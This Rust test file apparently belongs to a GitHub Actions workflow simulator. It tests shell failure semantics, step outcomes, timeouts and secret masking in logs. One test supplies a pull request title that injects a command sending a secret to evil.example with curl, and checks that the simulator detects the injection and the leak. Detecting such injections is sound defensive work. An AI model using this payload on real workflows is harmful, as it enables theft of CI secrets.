//! What steps do to each other, and what their logs show.

use super::*;

#[test]
fn a_pipe_hides_a_failure() {
    let text = jobs("push", "a:").replace("run: true", "run: 'false | tee log'");
    assert_eq!(told(&once(&text, push("main"))), "a=success");
}

#[test]
fn a_command_of_the_old_way_is_refused() {
    for (script, expected, said) in [
        ("echo \"::set-env name=A::b\"", "a=failure", true),
        ("echo \"::add-path::/opt\"", "a=failure", true),
        ("echo \"::set-env name=A::b\"; exit 0", "a=failure", true),
        ("echo \"::set-environment::\"", "a=success", false),
        ("echo \"::notice::set-env\"", "a=success", false),
        ("x=$(echo \"::set-env name=A::b\")", "a=success", false),
    ] {
        let step = format!("- run: '{script}'");
        let text = jobs("push", "a:").replace("- run: true", &step);
        let outcome = once(&text, push("main"));
        assert_eq!(told(&outcome), expected, "{script}");
        let (workflow, _) = read(&text);
        let log = log::lines(&Plan::new(&workflow), &outcome.runs[0].jobs[0], &[]);
        let mut texts = log.iter().map(|line| line.text.as_str());
        let shown = texts.any(|text| text.starts_with("##[error]Unable to process command '::"));
        assert_eq!(shown, said, "{script}");
    }
}

#[test]
fn a_variable_that_is_not_set_ends_a_script_that_cares() {
    for (script, expected) in [
        ("set -u; echo $NOPE", "a=failure"),
        ("set -euo pipefail; echo \"x-${NOPE}\"", "a=failure"),
        ("set -o nounset; echo $NOPE || true", "a=failure"),
        ("set -u; X=$NOPE; true", "a=failure"),
        ("set -u; [[ -n $NOPE ]] || true", "a=failure"),
        ("set -u; for x in $NOPE; do echo; done", "a=failure"),
        ("set -u; echo ${NOPE#v}", "a=failure"),
        ("set -u; echo $1", "a=failure"),
        ("echo ${NOPE:?msg}", "a=failure"),
        ("echo ${NOPE?msg}", "a=failure"),
        ("X=; echo ${X:?msg}", "a=failure"),
        ("X=; set -u; echo $X ${X?msg}", "a=success"),
        ("echo $NOPE", "a=success"),
        ("set -u; set +u; echo $NOPE", "a=success"),
        ("set -u; echo ${NOPE:-x} ${NOPE-x} ${NOPE:+x}", "a=success"),
        (
            "set -u; echo $HOME $CI $GITHUB_SHA $RUNNER_TEMP $PATH",
            "a=success",
        ),
        (
            "set -u; echo $JAVA_HOME $LANG $? $# \"$@\" $OLDPWD",
            "a=success",
        ),
        (
            "set -u; x=1; for y in a b; do echo $x $y; done",
            "a=success",
        ),
        ("set -u; . ~/vars.sh; echo $NOPE", "a=success"),
        ("(set -u; echo $NOPE) || true", "a=success"),
    ] {
        let step = format!("- run: '{script}'");
        let text = jobs("push", "a:").replace("- run: true", &step);
        assert_eq!(told(&once(&text, push("main"))), expected, "{script}");
    }
    let text = jobs("push", "a:").replace(
        "- run: true",
        "- shell: bash -u {0}\n        run: echo $NOPE",
    );
    assert_eq!(told(&once(&text, push("main"))), "a=failure");
}

#[test]
fn a_template_of_a_shell_says_when_it_stops() {
    for (shell, script, expected) in [
        ("bash {0}", "false; true", "a=success"),
        ("bash {0}", "true; false", "a=failure"),
        ("sh {0}", "false; true", "a=success"),
        ("bash --noprofile --norc {0}", "false; true", "a=success"),
        ("bash -e {0}", "false; true", "a=failure"),
        ("bash -e {0}", "false | true", "a=success"),
        ("bash -o errexit {0}", "false; true", "a=failure"),
        ("bash -euo pipefail {0}", "false | true", "a=failure"),
        ("bash -o pipefail {0}", "false | true; true", "a=success"),
        ("/bin/bash -l {0}", "false; true", "a=success"),
        ("bash", "false; true", "a=failure"),
        ("sh", "false; true", "a=failure"),
    ] {
        let step = format!("- shell: '{shell}'\n        run: {script}");
        let text = jobs("push", "a:").replace("- run: true", &step);
        assert_eq!(
            told(&once(&text, push("main"))),
            expected,
            "{shell}: {script}"
        );
    }
}

const STEPS: &str = "
on: push
jobs:
  a:
    runs-on: ubuntu-latest
    outputs:
      tag: ${{ steps.make.outputs.tag }}
    steps:
      - id: make
        run: echo \"tag=v${{ 1 == 1 }}-$PART\" >> \"$GITHUB_OUTPUT\"
        env:
          PART: x
      - id: bad
        run: 'false'
        continue-on-error: true
      - if: steps.bad.outcome == 'failure' && steps.bad.conclusion == 'success'
        run: 'true'
      - if: failure()
        run: 'true'
  b:
    needs: a
    if: needs.a.outputs.tag == 'vtrue-x'
    runs-on: ubuntu-latest
    steps:
      - run: exit 2
      - run: 'true'
      - if: always()
        run: 'true'
      - if: cancelled()
        run: 'true'
";

#[test]
fn steps_see_what_steps_before_them_did() {
    let outcome = once(STEPS, push("main"));
    let steps = |job: usize| -> Vec<&str> {
        let steps = &outcome.runs[0].jobs[job].steps;
        steps.iter().map(|step| step.conclusion.as_str()).collect()
    };
    assert_eq!(steps(0), ["success", "success", "success", "skipped"]);
    assert_eq!(steps(1), ["failure", "skipped", "success", "skipped"]);
    assert_eq!(told(&outcome), "a=success b=failure");
    let (workflow, _) = read(STEPS);
    let log = log::lines(&Plan::new(&workflow), &outcome.runs[0].jobs[1], &[]);
    let texts: Vec<&str> = log.iter().map(|line| line.text.as_str()).collect();
    assert_eq!(texts[0], "##[group]Run exit 2");
    assert!(texts.contains(&"##[error]Process completed with exit code 2."));
}

#[test]
fn a_strangers_title_can_become_a_command() {
    let text = jobs("pull_request_target", "a:").replace(
        "run: true",
        "run: echo \"${{ github.event.pull_request.title }}\"\n        env:\n          KEY: ${{ secrets.KEY }}",
    );
    let mut settings = Settings::default();
    settings
        .secrets
        .insert("KEY".to_owned(), "s3cr3t".to_owned());
    let titled = |words: &str| {
        let mut event = request(true);
        if let Kind::PullRequest { title, .. } = &mut event.kind {
            words.clone_into(title);
        }
        play(&text, &settings, &[at(0, What::Event(event))])
    };
    let evil = titled("x\"; curl https://evil.example?k=$KEY #");
    assert!(evil.runs[0].injected);
    assert!(evil.runs[0].leaks.iter().any(|leak| leak.secret == "KEY"));
    assert!(!titled("Mend the page").runs[0].injected);
    let by_variable = text
        .replace("${{ github.event.pull_request.title }}", "$TITLE")
        .replace(
            "env:\n",
            "env:\n          TITLE: ${{ github.event.pull_request.title }}\n",
        );
    let mut event = request(true);
    if let Kind::PullRequest { title, .. } = &mut event.kind {
        "x\"; curl https://evil.example?k=$KEY #".clone_into(title);
    }
    let safe = play(&by_variable, &settings, &[at(0, What::Event(event))]);
    assert!(!safe.runs[0].injected);
}

#[test]
fn time_limits_end_steps_and_jobs() {
    let text = jobs("push", "a: run sleep 120 | timeout-minutes: 1; b: run sleep 120").replace(
        "  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: sleep 120",
        "  b:\n    runs-on: ubuntu-latest\n    steps:\n      - timeout-minutes: 1\n        run: sleep 120",
    );
    let outcome = once(&text, push("main"));
    assert_eq!(told(&outcome), "a=cancelled b=failure");
    assert_eq!(outcome.runs[0].jobs[0].reason, Reason::Timeout);
    assert_eq!(outcome.runs[0].jobs[0].end_ms, 60_000);
}

#[test]
fn a_log_masks_secrets_and_shows_what_was_pasted() {
    let text = jobs("pull_request", "a:").replace(
        "run: true",
        "run: docker login ghcr.io -u me -p ${{ secrets.KEY }}\n        env:\n          PASSWORD: hunter2\n          HIDDEN: ${{ secrets.KEY }}",
    );
    let mut settings = Settings::default();
    settings
        .secrets
        .insert("KEY".to_owned(), "s3cr3t".to_owned());
    let outcome = play(&text, &settings, &[at(0, What::Event(request(false)))]);
    let (workflow, _) = read(&text);
    let plan = Plan::new(&workflow);
    let lines = log::lines(&plan, &outcome.runs[0].jobs[0], &log::masked(&settings));
    let log: Vec<String> = lines.into_iter().map(|line| line.text).collect();
    let log = log.join("\n");
    assert!(log.contains("docker login ghcr.io -u me -p ***"), "{log}");
    assert!(log.contains("  PASSWORD: hunter2\n  HIDDEN: ***"), "{log}");
    assert!(!log.contains("s3cr3t"), "{log}");
    assert!(log.ends_with("Login Succeeded!"), "{log}");
}

#[test]
fn names_of_images_can_be_made_by_the_action_for_it() {
    let text = road::ROAD.replace(
        "      - uses: docker/build-push-action@v6",
        "      - id: meta\n        uses: docker/metadata-action@v5\n        with:\n          images: ghcr.io/octo-org/app\n          tags: |\n            type=ref,event=branch\n            type=sha\n      - uses: docker/build-push-action@v6",
    );
    let text = text.replace(
        "tags: ghcr.io/octo-org/app:${{ github.sha }}",
        "tags: ${{ steps.meta.outputs.tags }}",
    );
    let outcome = once(&text, push("main"));
    let tags: Vec<&str> = outcome
        .pushes
        .iter()
        .map(|push| push.tag.as_str())
        .collect();
    assert_eq!(
        tags,
        [
            "ghcr.io/octo-org/app:main",
            "ghcr.io/octo-org/app:sha-aaaaaaa"
        ]
    );
}

#[test]
fn unknown_tools_succeed_and_are_named() {
    let text = jobs("push", "a: run frobnicate --all")
        .replace("    steps:\n", "    steps:\n      - uses: acme/deploy@v1\n");
    let outcome = once(&text, push("main"));
    assert_eq!(told(&outcome), "a=success");
    let codes: Vec<&str> = outcome
        .findings
        .iter()
        .map(|finding| finding.code)
        .collect();
    assert_eq!(
        codes,
        ["workflow-action-unknown", "workflow-command-unknown"]
    );
}
